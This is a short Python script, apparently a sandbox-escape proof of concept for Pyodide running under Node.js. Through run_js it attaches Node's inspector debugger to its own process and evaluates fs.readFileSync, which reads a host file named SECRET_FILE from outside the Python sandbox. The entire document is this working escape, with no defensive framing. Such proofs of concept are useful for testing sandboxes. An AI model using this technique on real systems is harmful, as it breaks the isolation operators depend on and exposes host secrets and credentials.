"""Reads a file of the host through a debugger that it attaches to itself."""

from pyodide.code import run_js

read = run_js("""async (path) => {
  const { Session } = process.getBuiltinModule("inspector/promises");
  const session = new Session();
  session.connect();
  const expression = `process.getBuiltinModule("fs").readFileSync(${JSON.stringify(path)}, "utf8")`;
  const { result } = await session.post("Runtime.evaluate", { expression });
  session.disconnect();
  return result.value ?? result.description;
}""")
print(await read(SECRET_FILE))
